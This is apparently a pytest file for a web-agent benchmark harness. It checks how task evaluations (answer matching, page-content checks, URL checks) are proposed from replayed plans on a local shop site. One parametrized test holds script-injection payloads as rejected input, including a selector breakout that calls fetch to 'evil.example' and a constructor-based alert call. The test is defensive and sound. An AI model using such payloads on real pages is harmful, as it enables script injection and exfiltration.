"""How a task could be judged: by answer, by what differs from a fresh site, by address; pages are not trusted."""

from dataclasses import replace
from typing import Any

import pytest

from harness.actions import Keyboard, PointClick, Stop
from harness.plugins.record.plan import Aimed, PageState, Plan, PlanStep
from harness.plugins.record.probing import Pages, _rows, locator_of
from harness.plugins.record.proposals import Session, eval_of, proposals_of
from harness.tasks.parse_eval import build_eval
from harness.tasks.validation import Fields

HOME = PageState(url="http://shop.localhost/", title="Home", fingerprint="")
CART = "http://shop.localhost/cart"
LAMP = Aimed(role="button", name="Add Lamp", nth=0, x=0.5, y=0.5)


def plan(answer: str = "", *actions: Any, note: str = "") -> Plan:
    steps = [PlanStep(action=action, page=HOME, element=LAMP, note=note) for action in actions]
    return Plan(task_id="0", start=HOME, steps=(*steps, PlanStep(action=Stop(answer=answer), page=None)))


def pages(address: str = HOME.url, **values: str) -> Pages:
    places = {(CART, f"#{name}", "outerText"): value for name, value in values.items()}
    return Pages(values=places, address=address)


def judged(
    made: Plan, *, undone: Pages, done: list[Pages], texts: tuple[str, ...] = (), sent: bool = False, intent: str = "?"
) -> Any:
    found = eval_of(proposals_of(made, Session(intent=intent, texts=texts, sent=sent), done=done, undone=undone))
    if found is not None:
        build_eval(Fields("task.json", dict(found)))  # a task file with it is one
    return found


def test_an_answer_that_pages_say_is_included() -> None:
    found = judged(plan("$44.50"), texts=("costs $44.50 today",), done=[pages(), pages()], undone=pages())
    assert found["eval_types"] == ["string_match"] and found["reference_answers"] == {"must_include": ["$44.50"]}


def test_a_list_of_answers_is_its_parts_only_where_pages_say_each() -> None:
    texts = ("the lamp costs $44.50", "by Olive")
    both = judged(plan("$44.50, olive"), texts=texts, done=[pages()] * 2, undone=pages())
    assert both["reference_answers"] == {"must_include": ["$44.50", "olive"]}
    whole = judged(plan("$44.50, Rita"), texts=texts, done=[pages()] * 2, undone=pages())
    assert whole["reference_answers"] == {"must_include": ["$44.50, Rita"]}


def test_an_answer_that_the_question_names_has_to_be_given_alone() -> None:
    asked = "Which is rated better, the Root Trowel or the Bypass Secateurs?"
    found = judged(
        plan("Bypass Secateurs"), texts=("Bypass Secateurs",), done=[pages()] * 2, undone=pages(), intent=asked
    )
    assert found["reference_answers"] == {"exact_match": "Bypass Secateurs"}


def test_what_cannot_be_done_is_said_with_the_notes() -> None:
    found = judged(plan("N/A", PointClick(x=0, y=0), note="no branch"), done=[pages()] * 2, undone=pages())
    assert found["reference_answers"] == {"fuzzy_match": "N/A"} and found["string_note"] == "no branch"


def test_a_change_is_what_both_replays_show_and_the_fresh_site_does_not() -> None:
    undone = pages(count="1", clock="10:00", name="Lamp")
    done = [pages(count="2", clock="10:01", name="Lamp"), pages(count="2", clock="10:02", name="Lamp")]
    found = judged(plan(), done=done, undone=undone, sent=True)
    (target,) = found["program_html"]
    assert target == {
        "url": CART,
        "locator": "document.querySelector('#count').outerText",
        "required_contents": {"exact_match": "2"},
    }


def test_what_was_typed_or_clicked_comes_before_what_happens_to_differ() -> None:
    changed = {"visits": "8", "viewed": "9", "shown": "10", "note": "Leave it", "line": "Add Lamp"}
    made = plan("", Keyboard(text="Leave it\n"), PointClick(x=0, y=0))
    found = judged(made, done=[pages(**changed)] * 2, undone=pages(), sent=True)
    texts = [one["required_contents"]["exact_match"] for one in found["program_html"]]
    assert set(texts[:2]) == {"Leave it", "Add Lamp"} and len(texts) == 3


def test_the_label_of_a_field_says_nothing_of_what_was_done() -> None:
    field = replace(LAMP, role="spinbutton", name="Quantity")
    made = plan("", PointClick(x=0, y=0), Keyboard(text="2"))
    made = replace(made, steps=(replace(made.steps[0], element=field), *made.steps[1:]))
    done = [pages(a="9", b="8", c="7", label="Quantity", count="2")] * 2
    found = judged(made, done=done, undone=pages(), sent=True)
    texts = [one["required_contents"]["exact_match"] for one in found["program_html"]]
    assert texts[0] == "2" and "Quantity" not in texts


def test_what_differs_by_looking_judges_no_question() -> None:
    done = [pages(viewed="Lamp")] * 2
    looked = judged(plan("7"), texts=("7",), done=done, undone=pages())
    assert looked["eval_types"] == ["string_match"]
    changed = judged(plan("7"), texts=("7",), done=done, undone=pages(), sent=True)
    assert changed["eval_types"] == ["string_match", "program_html"]


def test_only_who_goes_somewhere_and_does_nothing_is_judged_by_the_address() -> None:
    found = judged(plan(), done=[pages(CART)] * 2, undone=pages())
    assert found["eval_types"] == ["url_match"] and found["reference_url"] == CART
    assert judged(plan(), done=[pages()] * 2, undone=pages()) is None, "ended where it began"
    assert judged(plan(), done=[pages(CART), pages(f"{CART}?t=1")], undone=pages()) is None, "another each time"


def test_a_page_that_changes_everywhere_is_bounded_and_soon_looked_through() -> None:
    many = {f"n{number}": f"value {number}" for number in range(20_000)}
    found = proposals_of(plan(), Session(intent="?", texts=(), sent=True), done=[pages(**many)] * 2, undone=pages())
    assert len(found) == 500 and sum(one.chosen for one in found) == 3


def test_what_stands_on_every_page_comes_last() -> None:
    places = {(f"http://shop.localhost/{page}", "#cart", "outerText"): "2 items" for page in "abc"}
    done = [Pages(values={**places, (CART, "main > p", "outerText"): "Thank you"}, address="")] * 2
    found = judged(plan(), done=done, undone=pages(), sent=True)
    assert found["program_html"][0]["required_contents"] == {"exact_match": "Thank you"}


def test_a_checked_box_is_compared_as_scripts_say_it() -> None:
    place = (CART, "#news", "checked")
    done = [Pages(values={place: "true"}, address="")] * 2
    found = judged(plan(), done=done, undone=Pages(values={place: "false"}, address=""), sent=True)
    assert found["program_html"][0]["required_contents"] == {"exact_match": "True"}


@pytest.mark.parametrize("text", ["__SHOP__/x", "a |OR| b", "1 &lt; 2", ""])
def test_texts_that_mean_something_to_evaluators_are_not_proposed(text: str) -> None:
    assert judged(plan(), done=[pages(line=text)] * 2, undone=pages(), sent=True) is None


@pytest.mark.parametrize(
    "row",
    [
        ["'); fetch('http://evil.example'); ('", "outerText", "x"],
        ["#a\\", "outerText", "x"],
        ["#a", "constructor('alert(1)')()", "x"],
        ["#a", "outerText", "x" * 301],
        ["a" * 290 + "!", "outerText", "x"],
        ["#a", "outerText", 1],
        ["#a", "outerText"],
        "#a",
    ],
)
def test_what_a_page_says_is_no_script_of_a_locator(row: Any) -> None:
    assert list(_rows([row, ["#ok > td:nth-of-type(2)", "outerText", " y "]])) == [
        ("#ok > td:nth-of-type(2)", "outerText", "y")
    ]


@pytest.mark.parametrize("found", ["", None, {"a": 1}, 7])
def test_a_page_that_breaks_the_script_has_no_values(found: Any) -> None:
    assert list(_rows(found)) == []


def test_a_locator_reads_the_value_again() -> None:
    assert locator_of((CART, '[name="q"]', "value")) == "document.querySelector('[name=\"q\"]').value"


def test_an_element_is_clicked_where_it_is_now() -> None:
    from harness.plugins.record.plan_agent import _aimed_now
    from harness.records import Node

    step = replace(plan("", PointClick(x=0.1, y=0.1)).steps[0], element=LAMP)
    moved = Node(role="button", name="Add Lamp", nth=0, line="", box=(640, 360, 128, 72))
    assert _aimed_now(step, {"1": moved}, (1280, 720)) == PointClick(x=0.55, y=0.55)
    away = replace(moved, box=(640, 1360, 128, 72))
    for nodes in ({"1": away}, {"1": replace(moved, name="Remove Lamp")}, {}):
        assert _aimed_now(step, nodes, (1280, 720)) == step.action
